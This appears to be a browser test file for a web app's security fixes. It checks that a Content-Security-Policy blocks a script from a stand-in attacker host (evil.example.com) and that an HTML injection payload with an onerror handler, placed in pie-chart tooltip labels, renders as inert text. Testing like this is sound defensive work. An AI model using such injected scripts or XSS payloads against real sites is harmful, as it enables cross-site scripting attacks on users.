import { describe, expect, it } from 'vitest'
import { collectErrors, newPhone, setScenario, settled, signInViaOAuth, suiteBrowser } from './browser'

/** Issue 10 in a real browser: the page's Content-Security-Policy holds. */
const suite = suiteBrowser()

describe('Content-Security-Policy (issue 10)', () => {
  it('ships in the built page and refuses a script from another origin, which the walks would report', async () => {
    const ctx = await newPhone(suite.current)
    const page = await ctx.newPage()
    const errors = collectErrors(page)
    await page.goto('/#/productMarket')
    await settled(page)
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')
    expect(policy).toContain("script-src 'self'")
    expect(policy).toContain("object-src 'none'")
    expect(errors).toEqual([])

    // An injected third-party script is refused, and the refusal is what collectErrors reports.
    const ran = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const script = document.createElement('script')
          script.src = 'https://evil.example.com/x.js'
          script.onload = () => resolve(true)
          script.onerror = () => resolve(false)
          document.head.appendChild(script)
        }),
    )
    expect(ran).toBe(false)
    await expect.poll(() => errors.some((e) => e.startsWith('CSP:'))).toBe(true)
    await ctx.close()
  })
})

describe('server text in chart tooltips (issue 10: stored XSS through the pie tooltip)', () => {
  it('shows a slice label carrying HTML as text: tapping the slices runs nothing', async () => {
    await setScenario({ user: 'opened' })
    const ctx = await newPhone(suite.current)
    const page = await ctx.newPage()
    const errors = collectErrors(page)
    const payload = '<img src=x onerror="window.__pwned=1">'
    await page.route('**/assets/assetTypeShare*', (route) =>
      route.fulfill({
        contentType: 'application/json',
        body: JSON.stringify({
          code: '0000',
          data: [
            { respProductType: '1', holdAsset: '600.00', proportion: '60', scale: payload },
            { respProductType: '2', holdAsset: '400.00', proportion: '40', scale: payload },
          ],
        }),
      }),
    )
    await signInViaOAuth(page, '/#/allChannelAssets')
    await settled(page)
    await page.getByRole('tab', { name: '饼图' }).click()
    const pie = page.locator('[data-asset-pie] canvas')
    await pie.waitFor({ timeout: 10_000 })
    const box = (await pie.boundingBox())!
    // Tap around the ring (radius 52%-78% of the half height) until a tooltip shows.
    const r = (box.height / 2) * 0.65
    const tooltip = page.locator('[data-asset-pie] > div').filter({ hasText: '元' })
    for (const angle of [0, 60, 120, 180, 240, 300]) {
      const a = (angle * Math.PI) / 180
      await page.mouse.click(
        box.x + box.width / 2 + r * Math.cos(a),
        box.y + box.height / 2 + r * Math.sin(a),
      )
      await page.waitForTimeout(150)
    }
    await tooltip.first().waitFor({ timeout: 5_000 })
    expect(await tooltip.first().textContent()).toContain(payload)
    expect(await page.locator('[data-asset-pie] img').count()).toBe(0)
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined()
    expect(errors).toEqual([])
    await ctx.close()
  })
})
